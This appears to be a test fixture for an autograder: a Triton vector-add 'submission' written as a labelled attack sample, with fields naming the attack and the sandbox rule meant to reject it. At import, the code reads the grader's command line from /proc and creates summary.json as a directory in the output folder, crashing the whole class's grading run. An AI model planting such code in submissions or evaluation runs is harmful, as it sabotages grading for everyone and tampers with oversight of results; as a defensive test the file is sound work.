"""Hostile submission, class batch (exercise 1): the crasher.

A correct vector add that, at import, finds the batch's output folder on the `grade` process's
command line and creates `summary.json` there as a directory. When the batch has graded everyone
it cannot write its summary: it stops with a traceback, and no Gradescope result is written for
anyone.

Today the output folder is writable by every process of the run, and a path in the way of an
output is an unhandled exception for the whole class.
"""

import os
from pathlib import Path

import torch
import triton
import triton.language as tl

ATTACK = ("creates <out>/summary.json as a directory at import (the output folder read from the `grade` "
          "process's command line), so the batch crashes when it writes its outputs; a correct kernel otherwise")
KIND = "batch"
WRONG_UNDERNEATH = False
#: What a static check of this file can name (empty: nothing it can see).
STATIC_FLAGS = ("/proc", "mkdir outside the submission")
REJECTED_BY = ("the sandbox: the learner's process cannot write the output folder; and a non-directory (or "
               "directory) in the way of an output is a clear error for that path, not a crash for the class")
#: The class folder the batch runs on: this file and its classmates (paths in the repository).
CLASS = {"a_crasher.py": None, "b_honest.py": "solutions/ex01_vector_add.py"}
#: What today's grader lets happen (checked by run_today.py).
TODAY = "crashes_batch"


def _parent_of(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _out_folder() -> Path | None:
    """The --out folder of the nearest ancestor that is `grade batch`, or None."""
    pid = os.getppid()
    for _ in range(8):
        if pid <= 1:
            return None
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            return None
        if "batch" in argv and "--out" in argv:
            return Path(cwd) / argv[argv.index("--out") + 1]
        pid = _parent_of(pid)
    return None


_out = _out_folder()
if _out is not None:
    (_out / "summary.json").mkdir(parents=True, exist_ok=True)


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    total = tl.load(x_ptr + offsets, mask=mask).to(tl.float32) + tl.load(y_ptr + offsets, mask=mask).to(tl.float32)
    tl.store(out_ptr + offsets, total.to(out_ptr.dtype.element_ty), mask=mask)


def add(x, y):
    out = torch.empty_like(x)
    n = out.numel()
    add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK_SIZE=1024)
    return out
